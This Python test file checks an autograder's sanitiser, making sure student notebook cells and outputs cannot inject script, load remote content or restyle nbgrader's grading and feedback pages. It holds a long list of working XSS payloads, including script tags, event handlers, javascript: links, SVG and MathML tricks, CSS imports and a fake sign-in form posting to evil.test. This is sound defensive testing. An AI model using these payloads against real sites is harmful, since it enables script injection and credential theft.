"""Nothing that a submission holds scripts, loads or restyles the pages on which it is shown."""

from __future__ import annotations

import json
import os
import re
import sys
from copy import deepcopy
from pathlib import Path
from typing import Any

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.api import Gradebook
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.nbgraderformat import MetadataValidator
from nbgrader.server_extensions.formgrader import handlers
from nbgrader.utils import compute_checksum, determine_grade
from traitlets.config import Config, PyFileConfigLoader

from autograder.classroom import settings
from autograder.grading.safe_html import MAX_TEXT, clean_html, clean_text, cleaned
from autograder.judging import judge_source
from autograder.report import html as report_html
from crosstalk.course import course
from crosstalk.places import course_folder

LESSON = course().lesson("01")
RUN = "window.owned=(window.owned||0)+1"
# Markdown that a student may put into an answer, or into a cell of their own.
HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "script in a list": f"- a\n- <script>{RUN}</script>",
    "script in a table": f"| a | b |\n|---|---|\n| <script>{RUN}</script> | c |",
    "script in a quote": f"> > <script>{RUN}</script>",
    "script in a heading": f"# <script>{RUN}</script>\n",
    "script behind a fence": f"```\ncode\n```\n<script>{RUN}</script>",
    "script behind a fence that is none": f"``` a`b\n<script>{RUN}</script>\n```",
    "script in formulas": f"$$x <script>{RUN}</script> y$$ and $a<img src=x onerror={RUN}>b$",
    "script in an environment": f"\\begin{{equation}}<script>{RUN}</script>\\end{{equation}}",
    "script in a mermaid": f"```mermaid\n</pre><script>{RUN}</script>\n```",
    "script of a module": f"<script type=module>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script with a control character": f"<\x0bscript>{RUN}</script><\x00script>{RUN}</script>",
    "tag of two halves": f"<scr<script>ipt>{RUN}</script>",
    "comment that ends early": f"<!--><img src=x onerror={RUN}>-->",
    "processing instruction": f"<?x ><img src=x onerror={RUN}>?>",
    "declaration": f"<!DOCTYPE x [<img src=x onerror={RUN}>]>",
    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "tag that never ends": f"<img src=x onerror={RUN} //",
    "image": f"<img src=x onerror={RUN}>",
    "image with slashes": f"<img/src=x/onerror={RUN}>",
    "svg": f"<svg onload={RUN}></svg>",
    "svg that animates": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}></table></math>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "video": f"<video src=x onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    "focus": f"<input autofocus onfocus={RUN}>",
    "frame": '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    "frame of script": '<iframe src="javascript:parent.owned=1"></iframe>',
    "object": "<object data='http://evil.test/o'></object><embed src='http://evil.test/e'>",
    "base": "<base href='http://evil.test/'>",
    "title": "</title><title>owned</title><script>document.title='owned'</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.test/r'>",
    "link": "<link rel=stylesheet href='http://evil.test/s.css'>",
    "prefetch": "<link rel=preload as=image href='http://evil.test/p'>",
    "style": "<style>h4{display:none!important}body{background:url(http://evil.test/b)!important}</style>",
    "import": "<style>@import 'http://evil.test/i.css';</style>",
    "overlay": "<div style='position:fixed;inset:0;background:red;z-index:9999' id=overlay>A</div>",
    "form": "<form action='http://evil.test/f'><input name=password><button>Sign in</button></form>",
    "end of the page": f"</div></div></body></html><script>{RUN}</script>",
    "template": f"<template shadowrootmode=open><script>{RUN}</script></template>",
    "javascript link": f"[x](javascript:{RUN})",
    "javascript link in brackets": f"[x](<javascript:{RUN}>)",
    "javascript link with a space in brackets": f"[x](< javascript:{RUN}>)",
    "javascript link in capitals": f"[x](JaVaScRiPt:{RUN})",
    "javascript link with entities": f"[x](&#106;avascript&colon;{RUN})",
    "javascript link with an escape": f"[x](java\\script:{RUN})",
    "javascript link with a tab": f"[x](java\tscript:{RUN})",
    "javascript link behind a newline": f"[x](\njavascript:{RUN})",
    "javascript link by reference": f"[x]\n\n[x]: javascript:{RUN}",
    "javascript link by reference below": f"[x][y]\n\n[y]:\n   javascript:{RUN}",
    "javascript link by reference in a quote": f"> [x]\n>\n> [x]:\n> javascript:{RUN}",
    "javascript link by reference in a list": f"1. [x]\n\n   [x]: javascript:{RUN}",
    "javascript link by reference on two lines": f"- [x y]\n\n- [x\n  y]: javascript:{RUN}",
    "javascript link by itself": f"<javascript:{RUN}>",
    "link of data": f"[x](data:text/html,<script>{RUN}</script>)",
    "link with an attribute": f'[x](https://a.test/" onmouseover="{RUN})',
    "link with a title": f'[x](https://a.test "t\\" onmouseover={RUN}")',
    "link into the class": "[x](../../hacker/notes.html) [y](/formgrader/api/grade/1) [z](//evil.test)",
    "image elsewhere": "![x](http://evil.test/pixel.png) ![y][z]\n\n[z]: http://evil.test/z.png",
    "attached drawing": "![x](attachment:x.svg) [y](attachment:x.png)",
    "attachment that is not there": "![x](attachment:none.png)",
    "language of a fence": f'```x"onmouseover="{RUN}\ncode\n```',
    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$ $\\require{{html}}\\style{{position:fixed}}{{x}}$",
    "formula of a token": f'$\\mmlToken{{mi}}[href="javascript:{RUN}"]{{x}}$ $\\bbox[color:url(//evil.test)]{{x}}$',
}
HONEST = [
    "# The softmax\n\nIt is **always** positive, and *sums* to 1: $\\sum_i p_i = 1$.",
    "$$\\operatorname{softmax}(x)_i = \\frac{e^{x_i}}{\\sum_j e^{x_j}}, \\quad a < b,\\ y_{t} > 0$$",
    "```python\nif a < b and x[1:] == y[i]:\n    print(f(x))\n```\n\nand `a <= b`, `x->y`",
    "| a | b |\n|---|:-:|\n| 1 | $2^n$ |\n\n1. one\n2. two\n   - three\n\n> quoted",
    'See [the paper](https://arxiv.org/abs/1706.03762 "Attention") or [here][1] or https://pytorch.org.\n\n'
    "[1]: https://docs.pytorch.org",
    "I ♥ attention: ünïcödé, 注意, 2 < 3 & 4 > 3, AT&T, a\\_b, \\$5",
]
SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


@pytest.fixture(autouse=True)
def nbgraders_tools(monkeypatch: pytest.MonkeyPatch) -> None:
    """nbgrader calls alembic by name, also where the environment is not activated."""
    monkeypatch.setenv("PATH", os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]]))


def graded(cell: NotebookNode, grade_id: str, *, solution: bool, grade: bool = True) -> NotebookNode:
    """The cell with nbgrader's metadata."""
    cell.metadata["nbgrader"] = {
        "grade_id": grade_id, "grade": grade, "solution": solution, "locked": not solution, "task": False,
        "schema_version": 3, "cell_type": cell.cell_type, "points": 5.0, "checksum": "0" * 32,
    }  # fmt: skip
    return cell


def hostile_outputs() -> list[NotebookNode]:
    """What a kernel that a student controls may show, in all forms."""
    forms = [
        {"text/html": "".join(HOSTILE.values())},
        {"text/html": f"<b onclick='{RUN}' style='color:red;position:fixed'>x</b><a href='javascript:{RUN}'>y</a>"},
        {"application/javascript": RUN},
        {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"},
        {"text/markdown": HOSTILE["script"]},
        {"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}},
        {"image/png": f'{PNG}" onerror="{RUN}'},
        {"image/png": PNG},
    ]
    outputs = [new_output("display_data", data=data) for data in forms]
    outputs[-1].metadata = {"image/png": {"width": f"1 onload={RUN}", "alt": f'"onload="{RUN}'}}
    outputs += [
        new_output("stream", name="stdout", text=f"<script>{RUN}</script>"),
        new_output("error", ename="E", evalue="<b>", traceback=[f"\x1b[31m<script>{RUN}</script>\x1b[0m"]),
    ]
    outputs[0].metadata = {"text/html": {"isolated": True}}
    return outputs


def hostile_notebook() -> NotebookNode:
    """Everything above in one notebook, in answers that a person grades and in cells of the student's own."""
    cells = []
    for index, source in enumerate(HOSTILE.values()):
        drawing = {"x.svg": {"image/svg+xml": SVG}}
        cells.append(new_markdown_cell(source, attachments=drawing))
        if index < 3:  # the page treats them alike, and the gradebook takes its time for each
            graded(cells[-1], f"essay-{index}", solution=True)
        cells.append(new_raw_cell(source, metadata={"raw_mimetype": "text/html"}))
        cells.append(new_code_cell(source))
    cells.append(new_code_cell("1", outputs=hostile_outputs()))
    cells.append(new_code_cell("2", metadata={"tags": [f'"><script>{RUN}</script>'], "magics_language": "html"}))
    metadata = {
        "title": f"</title><script>{RUN}</script>",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}}},
        "language_info": {"name": f'python"><script>{RUN}</script>'},
    }
    return nbformat.from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells})


def without(notebook: NotebookNode, pattern: str) -> NotebookNode:
    """The notebook without what makes nbconvert give up, or leaves a page before it can be looked at."""
    for cell in notebook.cells:
        if re.search(pattern, cell.source):
            cell.source = ""
        if cell.cell_type == "code":
            cell.outputs = [output for output in cell.outputs if not re.search(pattern, str(output))]
    return notebook


def a_class(folder: Path, notebook: NotebookNode) -> CourseDirectory:
    """A class in which this notebook has been graded, as the gradebook and autograded/ hold it."""
    courses = CourseDirectory(root=str(folder), assignment_id="01-attention", db_url=f"sqlite:///{folder / 'g.db'}")
    with Gradebook(courses.db_url) as book:
        book.add_assignment("01-attention")
        book.add_notebook("attention", "01-attention")
        for cell in notebook.cells:
            if about := cell.metadata.get("nbgrader"):
                place = (about["grade_id"], "attention", "01-attention")
                book.add_grade_cell(*place, max_score=5, cell_type=cell.cell_type)
                if about["solution"]:
                    book.add_solution_cell(*place)
        book.add_student("hacker")
        book.add_submission("01-attention", "hacker")
    place = folder / "autograded" / "hacker" / "01-attention" / "attention.ipynb"
    place.parent.mkdir(parents=True)
    place.write_text(json.dumps(notebook), encoding="utf-8")
    return courses


def class_settings(folder: Path) -> Config:
    """What nbgrader_config.py says, as `crosstalk classroom` writes it."""
    (folder / "nbgrader_config.py").write_text(settings(course().ready), encoding="utf-8")
    return PyFileConfigLoader("nbgrader_config.py", path=str(folder)).load_config()


def feedback(folder: Path, notebook: NotebookNode, config: Config | None = None) -> str:
    """The page that `nbgrader generate_feedback` writes."""
    converter = GenerateFeedback(coursedir=a_class(folder, notebook), config=config or Config())
    converter.start()
    return (folder / "feedback" / "hacker" / "01-attention" / "attention.html").read_text("utf-8")


def formgrader_page(notebook: NotebookNode, config: Config) -> str:
    """The page in which an instructor grades, made as formgrader's server makes it."""
    config = deepcopy(config)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = dict.fromkeys(
        ("assignment_id", "notebook_id", "submission_id", "base_url", "student", "last_name", "first_name"), "x"
    )
    page, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources | {"index": 0, "total": 1})
    return page


def rendered(source: str) -> BeautifulSoup:
    """A text cell as nbconvert renders it."""
    page, _ = HTMLExporter(template_name="basic").from_notebook_node(new_notebook(cells=[new_markdown_cell(source)]))
    return BeautifulSoup(page, "html.parser")


def dangers(page: BeautifulSoup) -> list[str]:
    """What could run or load, by an independent look: not a filter, only a list of what must not be there."""
    for box in page.select("input.task-list-item-checkbox[disabled]"):
        box.extract()  # a ticked item of a list
    tags = (
        "script style iframe object embed form input button link meta base svg math img video audio template textarea"
    )
    found = [tag.name for tag in page.find_all(tags.split())]
    for tag in page.find_all(True):
        found += [name for name in tag.attrs if name.startswith("on") or name in ("srcdoc", "formaction")]
        found += [f"href={link}" for link in [tag.get("href", "#")] if not re.match(r"https?://|#", link)]
    return found


@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_is_harmless_and_stays_so(name: str) -> None:
    made = clean_text(HOSTILE[name])
    assert dangers(rendered(made)) == []
    assert clean_text(made) == made


def test_most_of_it_is_dangerous_uncleaned() -> None:
    """So the list above tests something; the others fool only some reader of Markdown."""
    harmless = []
    for name, source in HOSTILE.items():
        try:
            if not dangers(rendered(source)):
                harmless.append(name)
        except Exception as error:  # nbconvert refuses what it cannot read
            assert "attachment" in str(error)
    assert len(harmless) < len(HOSTILE) / 3, harmless


@pytest.mark.parametrize("source", HONEST)
def test_honest_text_stays_as_it_is(source: str) -> None:
    assert clean_text(source) == source


def test_raw_html_is_shown_as_text_and_formulas_keep_their_meaning() -> None:
    page = rendered(clean_text("<b>bold</b> and $y_{<t}$ and `<pad>`"))
    assert page.get_text().split() == ["<", "b>bold<", "/b>", "and", "$y_{<", "t}$", "and", "<", "pad>"]
    assert page.find("b") is None


@pytest.mark.parametrize("html", [*HOSTILE.values(), "<b style='color:red' onclick=x>b</b><a href='x.html'>y</a>"])
def test_html_of_outputs_is_harmless_and_stays_so(html: str) -> None:
    made = clean_html(html)
    assert dangers(BeautifulSoup(made, "html.parser")) == []
    assert clean_html(made) == made


@pytest.mark.parametrize(
    "style",
    ["position:fixed", "background:url(http://evil.test)", "background:u\\72l(//evil.test)", "margin:-99px",
     "color:expression(alert(1))", "width:100vw", "z-index:9", "padding:9999px", "background:image-set('//x' 1x)",
     "font-family:var(--a,url(//evil.test))", "color:red;position:absolute"],
)  # fmt: skip
def test_styles_that_reach_beyond_their_element_are_left_out(style: str) -> None:
    made = clean_html(f'<p style="{style}">x</p>')
    assert not re.search(r"url|evil|position|-99|expression|100vw|9999|image-set|z-index", made)


def test_our_report_looks_as_before() -> None:
    wrong = "def softmax(scores, dim=-1):\n    e = torch.exp(scores)\n    return e / e.sum(dim=dim, keepdim=True)\n"
    for source in (wrong, "def softmax(scores, dim=-1):\n    return scores * 2\n"):
        report = report_html(judge_source("softmax", source))
        before, after = BeautifulSoup(report, "html.parser"), BeautifulSoup(clean_html(report), "html.parser")
        assert [(tag.name, tag.attrs) for tag in before.find_all(True)] == [
            (tag.name, tag.attrs) for tag in after.find_all(True)[1:]
        ]
        assert before.get_text() == after.get_text()


def test_the_courses_own_text_and_pictures_stay() -> None:
    lesson = nbformat.read(course_folder() / "lessons" / LESSON.notebook, as_version=4)
    texts = [cell for cell in lesson.cells if cell.cell_type == "markdown"]
    assert any("<details>" in cell.source for cell in texts)
    assert [cell for cell in cleaned(lesson).cells if cell.cell_type == "markdown"] == texts
    mine = new_notebook(cells=[new_markdown_cell("<b>an instructor's own</b>")])
    assert cleaned(mine, mine).cells[0].source == mine.cells[0].source
    assert cleaned(mine).cells[0].source != mine.cells[0].source


def test_what_an_instructor_has_written_into_a_lesson_is_shown_as_it_is(tmp_path: Path) -> None:
    config = class_settings(tmp_path)
    mine = new_markdown_cell("<em>mine</em>")
    theirs = graded(new_markdown_cell("<em>theirs</em>"), "essay", solution=True)
    released = tmp_path / "release" / LESSON.notebook
    released.parent.mkdir(parents=True)
    nbformat.write(new_notebook(cells=[mine]), released)
    both = new_notebook(cells=[mine, theirs])
    for page in (formgrader_page(both, config), feedback(tmp_path, both, config)):
        assert "<em>mine</em>" in page and "<em>theirs" not in page and "&lt; em&gt;theirs" in page


def test_what_counts_for_points_stays() -> None:
    lesson = nbformat.read(course_folder() / "lessons" / LESSON.notebook, as_version=4)
    checks = [cell for cell in lesson.cells if cell.metadata.get("nbgrader", {}).get("grade")]
    for index, cell in enumerate(checks):
        cell.outputs = [
            [new_output("execute_result", data={"text/plain": "1.5", "text/html": "<b>x</b>"}, execution_count=1)],
            [new_output("stream", name="stderr", text="oh")],
            [new_output("error", ename="E", evalue="v", traceback=["t"])],
            [new_output("stream", name="stdout", text="fine")],
        ][index % 4]
    after = {cell.id: cell for cell in cleaned(lesson).cells}
    assert len(checks) >= 4
    for cell in checks:
        assert determine_grade(after[cell.id]) == determine_grade(cell)
        assert compute_checksum(after[cell.id]) == compute_checksum(cell)
    MetadataValidator().validate_nb(cleaned(lesson))


@pytest.mark.parametrize("value", [None, 5, True, [], {}, ["a"], {"a": 1}, "\ud800", "x" * 10, [[[[]]]], 1e999])
def test_parts_of_any_type_give_a_valid_notebook(value: Any) -> None:
    keys = ("source", "metadata", "outputs", "execution_count", "id", "attachments", "cell_type")
    fine = dict(new_code_cell("1"))
    cells = [{**fine, key: value} for key in keys]
    cells += [{**new_markdown_cell("x"), key: value} for key in keys]
    cells += [{**fine, "metadata": {"nbgrader": value, "jupyter": value, "tags": value, "deletable": value}}]
    cells += [{**fine, "metadata": {"nbgrader": dict.fromkeys(("grade_id", "grade", "points", "checksum"), value)}}]
    for kind in ("stream", "error", "display_data", "execute_result", value):
        outputs = [dict.fromkeys(("text", "name", "traceback", "ename", "data", "metadata"), value)]
        outputs += [{"data": dict.fromkeys(("text/plain", "text/html", "image/png"), value)}, value]
        cells.append({**fine, "outputs": [{**o, "output_type": kind} if isinstance(o, dict) else o for o in outputs]})
    cells.append(value)
    notebook = NotebookNode(nbformat=4, nbformat_minor=5, metadata=value, cells=cells)
    made = cleaned(notebook)
    nbformat.validate(made)
    assert cleaned(made) == made
    json.dumps(made).encode()
    assert nbformat.writes(made).encode("utf-8")


def test_what_nbconvert_itself_refuses_is_cleaned_too() -> None:
    code = new_code_cell("1")
    code.update({"id": f'x"><script>{RUN}</script>', "execution_count": f"<script>{RUN}</script>"})
    made = cleaned(nbformat.from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [code]}))
    assert RUN not in str(made)
    nbformat.validate(made)


def test_pictures_that_a_student_has_put_in_stay_and_drawings_do_not() -> None:
    bundles = {
        "a.png": {"image/png": PNG, "image/svg+xml": SVG},
        "x.svg": {"image/svg+xml": SVG},
        "b.png": {"image/png": f'{PNG}" onerror="{RUN}'},
        'c" onerror="x': {"image/png": PNG},
    }
    for name in bundles:
        cell = new_markdown_cell(f"so: ![mine](attachment:{name})", attachments=bundles)
        made = cleaned(new_notebook(cells=[cell]))
        assert made.cells[0].attachments == {"a.png": {"image/png": PNG}}
        assert cleaned(made) == made
        page, _ = HTMLExporter(template_name="basic").from_notebook_node(made)
        images = [image["src"] for image in BeautifulSoup(page, "html.parser").find_all("img")]
        assert images == ([f"data:image/png;base64,{PNG}"] if name == "a.png" else [])


def test_same_ids_get_their_own() -> None:
    cells = [new_code_cell(str(number)) for number in range(3)]
    for cell in cells:
        cell["id"] = "no-1"
    made = cleaned(nbformat.from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}))
    assert len({cell.id for cell in made.cells}) == 3


def test_long_text_is_cut() -> None:
    for unit in ("word ", "<b>", "[x](", "]:"):
        made = clean_text(unit * MAX_TEXT)
        assert len(made) < MAX_TEXT + 500 and "left out" in made
        assert clean_text(made) == made


def test_formgraders_page_has_no_script_of_a_student(tmp_path: Path) -> None:
    config = class_settings(tmp_path)
    notebook = hostile_notebook()
    plain = formgrader_page(without(notebook, "attachment:"), Config())
    assert RUN in str(BeautifulSoup(plain, "html.parser").find_all("script"))
    page = BeautifulSoup(formgrader_page(notebook, config), "html.parser")
    assert not [script for script in page.find_all("script") if RUN in str(script)]
    cells = page.find(id="notebook-container")
    for tag in cells.select("input.score, input.extra-credit, button.btn, textarea.comment"):
        tag.extract()  # nbgrader's own
    assert [found for found in dangers(cells) if found != "img"] == []
    assert [image["src"] for image in cells.find_all("img")] == [f"data:image/png;base64,{PNG}"]
    assert not page.find(id=True, string=re.compile("owned"))
